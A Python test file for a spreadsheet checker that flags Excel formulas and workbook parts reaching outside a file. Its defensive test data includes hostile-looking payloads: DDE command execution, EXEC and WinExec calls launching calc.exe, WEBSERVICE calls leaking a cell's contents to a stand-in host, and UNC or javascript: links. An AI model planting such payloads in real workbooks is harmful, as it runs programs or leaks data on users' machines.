"""What reaches outside a workbook: by every place that it can stand in, and every way."""

from __future__ import annotations

import inspect
from collections.abc import Callable, Mapping
from html import escape
from pathlib import Path

import pytest

import builders as b
from kalkyl.excel import functions
from kalkyl.figures.outside_calls import OWN_FUNCTIONS, Reach, is_outside, reached
from kalkyl.io.xlsx.read import receive, receive_bytes
from kalkyl.model import ProblemKind, Severity
from test_rules_800 import OFFICE, codes, having, judged, packed, parts, said, spliced

S2 = "xl/worksheets/sheet2.xml"
BOOK = "xl/workbook.xml"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
Content = Mapping[str, bytes]

CALLS = [
    ('_xlfn.WEBSERVICE("http://x.test/?"&Omslag!$B$10)', "KAL812"),
    ('webservice  (\n"http://x.test")', "KAL812"),
    ('_xlfn.IMAGE("http://x.test/a.png")', "KAL812"),
    ('_xlfn.STOCKHISTORY("MSFT",1)', "KAL812"),
    ("_xlfn._xlws.PY(1,0)", "KAL812"),
    ('SQL.REQUEST("DSN=x",,2,"select 1")', "KAL812"),
    ('CUBEVALUE("ThisWorkbookDataModel","x")', "KAL812"),
    ("MAP(A1:A3,_xleta.WEBSERVICE)", "KAL812"),
    ('EXEC("calc.exe")', "KAL806"),
    ('Call("kernel32","WinExec","JCJ","calc",0)', "KAL806"),
    ('1+REGISTER("a","b")', "KAL806"),
    ('RTD("prog",,"x")', "KAL806"),
    ("cmd|'/c calc'!A1", "KAL806"),
    ('EVALUATE("WEB"&"SERVICE(1)")', "KAL806"),
    ("RunPython(\"import os;os.startfile('calc')\")", "KAL813"),
    ("'kalkyl.xlam'!RunPython(\"import os\")", "KAL813"),
    ('[1]!RunPython("import os")', "KAL813"),
    ("[1]!SUM(A1)", "KAL813"),
    ("executewindows (1)", "KAL813"),
    ("_xll.FRAGA(1)", "KAL813"),
    ("_xludf.EgenFunktion(1)", "KAL813"),
    ('HYPERLINK("\\\\host\\share\\x.exe","se här")', "KAL814"),
    ('HYPERLINK("file:///c:/x.exe")', "KAL814"),
    ('HYPERLINK("http://x.test/?"&Omslag!$B$10,"x")', "KAL814"),
    ("HYPERLINK(A1)", "KAL814"),
]
KIND = {
    "KAL806": Reach.STARTS,
    "KAL812": Reach.FETCHES,
    "KAL813": Reach.CALLS,
    "KAL814": Reach.LEADS,
}
HARMLESS = [
    "SUM(A1:A3)",
    "_xlfn.XLOOKUP(1,A1:A3,B1:B3)+_xlfn._xlws.SORT(A1:A3)",
    "KALKYL_ANDEL(A1,B1)",
    "[1]!KALKYL_ANDEL(A1,B1)",
    '"EXEC(1)"&A1',
    "'EXEC (1)'!A1",
    "Tabell1[Belopp (tkr)]",
    "Tabell1[[#This Row],[Ek(o)nomi]]",
    'HYPERLINK("#Prognos!A1","gå dit")',
    'HYPERLINK("#"&A1,"gå dit")',
    'HYPERLINK("https://intranat.exempel.se/","intranätet")',
    "_xlfn.LET(_xlpm.f,_xlfn.LAMBDA(_xlpm.x,_xlpm.x+1),_xlpm.f(1))",
    'IFERROR(__xludf.DUMMYFUNCTION("IMPORTRANGE(""x"")"),1)',
    "LOG10 (100)",
    "SUM(A1:B3 (A2:C4))",
]


def kinds(content: Content) -> list[str]:
    """The kinds of problems that opening a workbook runs into, but for links that KAL130 tells."""
    found = receive_bytes("110.xlsx", packed(content)).problems
    return [one.kind for one in found if one.kind != ProblemKind.LINK_BESIDE]


def related(content: Content, owner: str, kind: str, target: str, mode: str = "") -> Content:
    """The workbook with one more relationship of a part."""
    folder, _, file = owner.rpartition("/")
    name = f"{folder}/_rels/{file}.rels"
    before = content.get(name, f'<Relationships xmlns="{PACKAGE}"></Relationships>'.encode())
    one = (
        f'<Relationship Id="rOut" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return {**content, name: before.replace(b"</Relationships>", one.encode())}


EXTERNAL = ' TargetMode="External"'


def in_part(name: str, xml: str, kind: str = "") -> Content:
    """The workbook with a part that its second sheet leads to."""
    target = "/" + name
    content = {**parts(), name: xml.encode()}
    return related(content, S2, kind or name.split("/")[-2].rstrip("s"), target)


def in_cell(text: str) -> Content:
    row = f'<row r="5000"><c r="A5000"><f>{text}</f><v>0</v></c></row>'
    return spliced(S2, "</sheetData>", row)


def in_name(text: str) -> Content:
    return spliced(BOOK, "</definedNames>", f'<definedName name="zy">{text}</definedName>')


def in_hidden_name(text: str) -> Content:
    name = f'<definedName name="zy" hidden="1" localSheetId="0">{text}</definedName>'
    return spliced(BOOK, "</definedNames>", name)


def after_cells(xml: str) -> Content:
    old = parts()[S2]
    return {**parts(), S2: old.replace(b"</worksheet>", xml.encode() + b"</worksheet>")}


def in_condition(text: str) -> Content:
    rule = f'<cfRule type="expression" priority="99"><formula>{text}</formula></cfRule>'
    return after_cells(f'<conditionalFormatting sqref="C7:D9">{rule}</conditionalFormatting>')


def in_scale(text: str) -> Content:
    scale = f'<colorScale><cfvo type="formula" val="{text}"/><cfvo type="max"/></colorScale>'
    rule = f'<cfRule type="colorScale" priority="99">{scale}</cfRule>'
    return after_cells(f'<conditionalFormatting sqref="C7">{rule}</conditionalFormatting>')


def in_validation(text: str) -> Content:
    one = f'<dataValidation type="list" sqref="C7"><formula1>{text}</formula1></dataValidation>'
    return after_cells(f"<dataValidations>{one}</dataValidations>")


def in_second_limit(text: str) -> Content:
    two = f"<formula1>1</formula1><formula2>{text}</formula2>"
    one = f'<dataValidation type="whole" sqref="C7">{two}</dataValidation>'
    return after_cells(f"<dataValidations>{one}</dataValidations>")


def extension(xml: str) -> Content:
    spaces = (
        'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main" '
        'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"'
    )
    return after_cells(f'<extLst><ext uri="{{x}}" {spaces}>{xml}</ext></extLst>')


def in_newer_condition(text: str) -> Content:
    rule = f'<x14:cfRule type="expression"><xm:f>{text}</xm:f></x14:cfRule><xm:sqref>C7</xm:sqref>'
    whole = f"<x14:conditionalFormatting>{rule}</x14:conditionalFormatting>"
    return extension(f"<x14:conditionalFormattings>{whole}</x14:conditionalFormattings>")


def in_newer_validation(text: str) -> Content:
    one = f"<x14:formula1><xm:f>{text}</xm:f></x14:formula1><xm:sqref>C7</xm:sqref>"
    return extension(f"<x14:dataValidation>{one}</x14:dataValidation>")


def in_sparkline(text: str) -> Content:
    one = f"<x14:sparkline><xm:f>{text}</xm:f><xm:sqref>C7</xm:sqref></x14:sparkline>"
    return extension(f"<x14:sparklineGroup>{one}</x14:sparklineGroup>")


def in_chart(text: str) -> Content:
    xml = f'<c:chartSpace xmlns:c="urn:c"><c:val><c:f>{text}</c:f></c:val></c:chartSpace>'
    return in_part("xl/charts/chart1.xml", xml)


def in_newer_chart(text: str) -> Content:
    xml = f'<cx:chartSpace xmlns:cx="urn:cx"><cx:data><cx:f>{text}</cx:f></cx:data></cx:chartSpace>'
    return in_part("xl/charts/chartEx1.xml", xml)


def in_table_column(text: str) -> Content:
    column = f"<calculatedColumnFormula>{text}</calculatedColumnFormula>"
    return in_part("xl/tables/t9.xml", f"<table><tableColumn>{column}</tableColumn></table>")


def in_table_total(text: str) -> Content:
    column = f"<totalsRowFormula>{text}</totalsRowFormula>"
    return in_part("xl/tables/t9.xml", f"<table><tableColumn>{column}</tableColumn></table>")


def in_pivot_field(text: str) -> Content:
    field = f'<cacheFields><cacheField name="x" formula="{text}"/></cacheFields>'
    xml = f"<pivotCacheDefinition>{field}</pivotCacheDefinition>"
    return in_part("xl/pivotCache/pivotCacheDefinition1.xml", xml, "pivotCacheDefinition")


def in_shape_text(text: str) -> Content:
    xml = f'<xdr:wsDr xmlns:xdr="urn:x"><xdr:sp textlink="{text}"/></xdr:wsDr>'
    return in_part("xl/drawings/drawing9.xml", xml)


def in_control(text: str) -> Content:
    control = f'<controls><control name="x"><controlPr linkedCell="{text}"/></control></controls>'
    space = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    space += ' xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"'
    choice = f'<mc:Choice Requires="x14">{control}</mc:Choice>'
    return after_cells(f"<mc:AlternateContent {space}>{choice}</mc:AlternateContent>")


def in_vml(text: str) -> Content:
    shape = f"<v:shape><x:ClientData><x:FmlaLink>{text}</x:FmlaLink></x:ClientData></v:shape>"
    xml = f'<xml xmlns:v="urn:v" xmlns:x="urn:x">{shape}</xml>'
    return in_part("xl/drawings/vmlDrawing9.vml", xml)


PLACES: Mapping[str, Callable[[str], Content]] = {
    make.__name__: make
    for make in (
        *(in_cell, in_name, in_hidden_name, in_condition, in_scale, in_validation),
        *(in_second_limit, in_newer_condition, in_newer_validation, in_sparkline, in_chart),
        *(in_newer_chart, in_table_column, in_table_total, in_pivot_field, in_shape_text),
        *(in_control, in_vml),
    )
}
each_place = pytest.mark.parametrize("place", PLACES.values(), ids=PLACES)


@each_place
def test_every_kind_of_call_is_told_wherever_it_stands(place: Callable[[str], Content]) -> None:
    missed = {
        formula: found
        for formula, code in CALLS[::3]
        if (found := kinds(place(escape(formula)))) != [KIND[code]]
    }
    assert missed == {}


@pytest.mark.parametrize(("formula", "code"), CALLS)
def test_every_call_is_told(formula: str, code: str) -> None:
    assert KIND[code] in [call.reach for call in reached(formula)]
    assert kinds(in_cell(escape(formula))) == [KIND[code]]


@each_place
def test_what_stays_within_the_workbook_is_told_nowhere(place: Callable[[str], Content]) -> None:
    formula = "+".join(HARMLESS)
    assert kinds(place(escape(formula))) == []


@pytest.mark.parametrize("kind", ["inlineStr", "str"])
def test_a_text_that_looks_like_a_call_is_none(kind: str) -> None:
    texts = (escape("=" + formula) for formula, _ in CALLS)
    inner = "<is><t>{}</t></is>" if kind == "inlineStr" else "<v>{}</v>"
    cells = "".join(f'<c t="{kind}">{inner.format(text)}</c>' for text in texts)
    assert kinds(spliced(S2, "</sheetData>", f'<row r="5000">{cells}</row>')) == []


@pytest.mark.parametrize("formula", HARMLESS)
def test_a_harmless_formula_reaches_nothing(formula: str) -> None:
    assert list(reached(formula)) == []


def test_a_function_of_the_workbook_itself_is_no_macro() -> None:
    name = '<definedName name="DUBBEL">_xlfn.LAMBDA(_xlpm.x,2*_xlpm.x)</definedName>'
    content = {**in_cell("Dubbel(2)")}
    content[BOOK] = parts()[BOOK].replace(b"</definedNames>", f"{name}</definedNames>".encode())
    assert codes(content) == []
    assert codes(in_cell("Dubbel(2)")) == ["KAL813"]


def test_it_is_told_where_a_call_stands() -> None:
    [finding] = judged(in_condition(escape('WEBSERVICE("http://x")'))).findings
    assert str(finding.place).endswith("!C7")
    assert "villkorsformat" in said(finding)
    assert "conditional format on" in said(finding, "en")
    [finding] = judged(in_name(escape('WEBSERVICE("http://x")'))).findings
    assert "(namnet zy)" in said(finding)
    assert "(the name zy)" in said(finding, "en")
    [finding] = judged(in_chart("EXEC(1)")).findings
    assert "ett diagram på bladet" in said(finding)


def test_a_call_far_into_a_formula_is_quoted_from_there() -> None:
    formula = "+".join(f"A{n}" for n in range(1, 40)) + '+WEBSERVICE("http://x")'
    [finding] = judged(in_cell(escape(formula))).findings
    assert "WEBSERVICE" in said(finding)


def test_a_thousand_calls_of_one_kind_are_one_finding() -> None:
    names = "".join(f'<definedName name="z{n}">EXEC({n})</definedName>' for n in range(1000))
    [finding] = judged(spliced(BOOK, "</definedNames>", names)).findings
    assert "och 999 till" in said(finding)


@pytest.mark.parametrize("mark", ["xlm", "vbProcedure", "function", "macro"])
def test_a_name_that_stands_for_a_macro(mark: str) -> None:
    name = f'<definedName name="zy" {mark}="1" hidden="1">#NAME?</definedName>'
    assert codes(spliced(BOOK, "</definedNames>", name)) == ["KAL813"]
    kept = f'<definedName name="zy" {mark}="0">$A$1</definedName>'
    assert codes(spliced(BOOK, "</definedNames>", kept)) == []


@pytest.mark.parametrize("name", ["Auto_Open", "_xlnm.Auto_Open", "auto_open_x", "AUTO_CLOSE"])
def test_a_name_that_excel_runs_by_itself(name: str) -> None:
    one = f'<definedName name="{name}" hidden="1">Omslag!$A$1</definedName>'
    assert codes(spliced(BOOK, "</definedNames>", one)) == ["KAL805"]


RUN = "'kalkyl.xlam'!'RunPython &quot;import os&quot;'"


@pytest.mark.parametrize(
    "content",
    [
        in_part(
            "xl/drawings/drawing9.xml",
            f'<xdr:wsDr xmlns:xdr="urn:x"><xdr:{kind} macro="{RUN}"/></xdr:wsDr>',
        )
        for kind in ("sp", "pic", "graphicFrame", "cxnSp")
    ]
    + [
        in_part("xl/any/x9.bin", f'<formControlPr fmlaMacro="{RUN}"/>', "ctrlProp"),
        in_part(
            "xl/drawings/vmlDrawing9.vml",
            f'<xml xmlns:x="urn:x"><x:FmlaMacro>{RUN}</x:FmlaMacro></xml>',
        ),
        in_part("xl/drawings/vmlDrawing9.vml", f"<xml><br><x:FmlaMacro>{RUN}</x:FmlaMacro></xml>"),
        after_cells(f'<controls><control><controlPr macro="{RUN}"/></control></controls>'),
    ],
)
def test_a_shape_or_control_that_runs_a_macro(content: Content) -> None:
    assert codes(content) == ["KAL815"]


def test_a_shape_without_a_macro_is_only_a_shape() -> None:
    xml = '<xdr:wsDr xmlns:xdr="urn:x"><xdr:sp macro="" textlink=""/></xdr:wsDr>'
    assert codes(in_part("xl/drawings/drawing9.xml", xml)) == []


def test_a_ribbon_that_runs_something_as_it_is_shown() -> None:
    loads = having(customUI__customUI_xml=b'<customUI onLoad="RunPython"/>')
    assert set(codes(loads)) == {"KAL808", "KAL813"}
    clicked = having(customUI__customUI_xml=b'<customUI><button onAction="RunPython"/></customUI>')
    assert set(codes(clicked)) == {"KAL808", "KAL815"}


ADDRESSES = [
    "file:///G:/ekonomi/x.xlsx",
    "FILE://host/share",
    r"\\host\share\x.xlsx",
    "//host/share",
    "%5C%5Chost%5Cshare",
    "smb://host/share",
    "ms-word:ofe|u|https://x.test/a.docx",
    "javascript:alert(1)",
    " java&#9;script:alert(1)",
    "search-ms:query=x",
    r"C:\x.exe",
]
WEB = ["https://exempel.se/a", "http://exempel.se", "mailto:a@exempel.se", "bilaga.docx", "#A1"]


@pytest.mark.parametrize("address", ADDRESSES)
def test_a_link_to_a_share_or_a_program(address: str) -> None:
    linked = related(parts(), S2, "hyperlink", escape(address).replace("&amp;#", "&#"), EXTERNAL)
    assert kinds(linked) == [Reach.LEADS]


@pytest.mark.parametrize("address", WEB)
def test_a_link_to_a_page_is_ordinary(address: str) -> None:
    assert not is_outside(address)
    assert kinds(related(parts(), S2, "hyperlink", address, EXTERNAL)) == []


def test_the_base_of_all_links_can_be_a_share() -> None:
    old = parts()["docProps/app.xml"]
    base = rb"<HyperlinkBase>\\host\share</HyperlinkBase></Properties>"
    content = {**parts(), "docProps/app.xml": old.replace(b"</Properties>", base)}
    assert codes(content) == ["KAL814"]


@pytest.mark.parametrize("address", ["http://x.test/a.png", r"\\host\a.png", "file:///c:/a.png"])
def test_a_picture_that_is_fetched_from_elsewhere(address: str) -> None:
    drawing = in_part("xl/drawings/drawing9.xml", "<wsDr/>")
    linked = related(drawing, "xl/drawings/drawing9.xml", "image", address, EXTERNAL)
    [finding] = judged(linked).findings
    assert (finding.code, finding.severity) == ("KAL812", Severity.ERROR)
    assert "en bild på bladet" in said(finding)


def test_a_linked_object() -> None:
    assert codes(related(parts(), S2, "oleObject", r"\\host\a.doc", EXTERNAL)) == ["KAL806"]


def test_connections_that_reload_by_themselves() -> None:
    one = '<connections><connection name="Bok" {}/></connections>'
    quiet = having(xl__connections_xml=one.format("").encode())
    assert codes(quiet) == ["KAL807"]
    loud = having(xl__connections_xml=one.format('refreshOnLoad="1"').encode())
    assert set(codes(loud)) == {"KAL807", "KAL812"}
    often = having(xl__connections_xml=one.format('interval="5"').encode())
    assert set(codes(often)) == {"KAL807", "KAL812"}


def test_a_pivot_table_of_the_workbooks_own_cells_may_refresh() -> None:
    own = '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="worksheet"/>{}'
    name = "xl/pivotCache/pivotCacheDefinition1.xml"
    content = in_part(name, own.format("</pivotCacheDefinition>"), "pivotCacheDefinition")
    assert codes(content) == []
    outside = own.replace("worksheet", "external").format("</pivotCacheDefinition>")
    assert codes(in_part(name, outside, "pivotCacheDefinition")) == ["KAL812"]


def test_a_pivot_table_of_another_workbook() -> None:
    name = "xl/pivotCache/pivotCacheDefinition1.xml"
    content = in_part(name, "<pivotCacheDefinition/>", "pivotCacheDefinition")
    assert codes(related(content, name, "externalLinkPath", "b.xlsx", EXTERNAL)) == ["KAL807"]


@pytest.mark.parametrize(
    ("part", "xml", "code"),
    [
        ("xl/dialogsheets/sheet1.xml", "<dialogsheet/>", "KAL808"),
        ("xl/model/item.data", "x", "KAL808"),
        ("xl/webextensions/webextension1.xml", "<webextension/>", "KAL808"),
        ("customXml/item1.xml", '<DataMashup xmlns="urn:x">UEs=</DataMashup>', "KAL807"),
        ("xl/xmlMaps.xml", '<MapInfo><DataBinding ConnectionID="1"/></MapInfo>', "KAL807"),
        ("xl/xmlMaps.xml", r'<MapInfo><Schema SchemaRef="\\host\a.xsd"/></MapInfo>', "KAL807"),
        (
            "xl/volatileDependencies.xml",
            '<volTypes><volType type="realTimeData"/></volTypes>',
            "KAL806",
        ),
        (
            "xl/webextensions/taskpanes.xml",
            '<taskpanes><taskpane visibility="0"/></taskpanes>',
            "KAL808",
        ),
        (
            "xl/webextensions/taskpanes.xml",
            '<taskpanes><taskpane visibility="1"/></taskpanes>',
            "KAL816",
        ),
        (
            "xl/webextensions/webextension1.xml",
            (
                '<webextension><property name="Office.AutoShowTaskpaneWithDocument" value="true"/>'
                "</webextension>"
            ),
            "KAL816",
        ),
    ],
)
def test_parts_that_reach_out_by_what_they_are(part: str, xml: str, code: str) -> None:
    assert codes({**parts(), part: xml.encode()}) == [code]


def test_an_xml_map_names_its_vocabulary_by_an_address() -> None:
    xml = b'<MapInfo><Schema Namespace="http://www.w3.org/2001/XMLSchema"/></MapInfo>'
    assert codes({**parts(), "xl/xmlMaps.xml": xml}) == []


@pytest.mark.parametrize("kind", Reach)
def test_what_acts_is_an_error_and_what_waits_a_warning(kind: Reach) -> None:
    formula = {
        Reach.STARTS: "EXEC(1)",
        Reach.CALLS: "RunPython(1)",
        Reach.FETCHES: "WEBSERVICE(1)",
        Reach.LEADS: "HYPERLINK(A1)",
    }[kind]
    [finding] = judged(in_cell(formula)).findings
    assert finding.severity is (Severity.WARNING if kind is Reach.LEADS else Severity.ERROR)


def test_the_documented_functions_are_those_of_the_addin() -> None:
    found = {name for name, _ in inspect.getmembers(functions) if name.startswith("KALKYL_")}
    assert found == OWN_FUNCTIONS


@pytest.mark.parametrize(
    "path", sorted(b.ROOT.glob("workbooks/**/*.xlsx"))[::4], ids=lambda p: p.name
)
def test_kalkyls_own_workbooks_reach_nowhere(path: Path) -> None:
    assert [
        one for one in receive(path).problems if one.kind in {*Reach, ProblemKind.CLICKED_MACRO}
    ] == []


def test_a_formula_made_to_be_slow_is_read_in_time() -> None:
    for piece in ('"', "'", "[", "a (", "'[", '""', "(" * 8, "a."):
        list(reached(piece * 100_000))
